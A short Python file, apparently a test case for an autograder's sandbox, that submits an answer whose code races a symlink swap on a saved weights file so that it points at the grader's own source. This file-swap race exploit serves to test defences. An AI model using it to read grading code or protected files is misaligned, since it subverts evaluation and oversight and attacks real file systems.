"""The saved file turns into a link and back while it is looked at."""

from __future__ import annotations

from typing import Any


def make(package: Any) -> None:
    secret = package.course / "grading" / "ps3" / "grader" / "__init__.py"
    package.answer(
        "r1",
        "save",
        f"""
        import os
        import threading

        open("empty", "wb").close()
        os.symlink("{secret}", "link")

        def swap():
            while True:
                os.replace("empty", "weights.safetensors")
                os.link("link", "again", follow_symlinks=False)
                os.replace("again", "weights.safetensors")
                open("empty", "wb").close()

        threading.Thread(target=swap, daemon=True).start()
        """,
    )
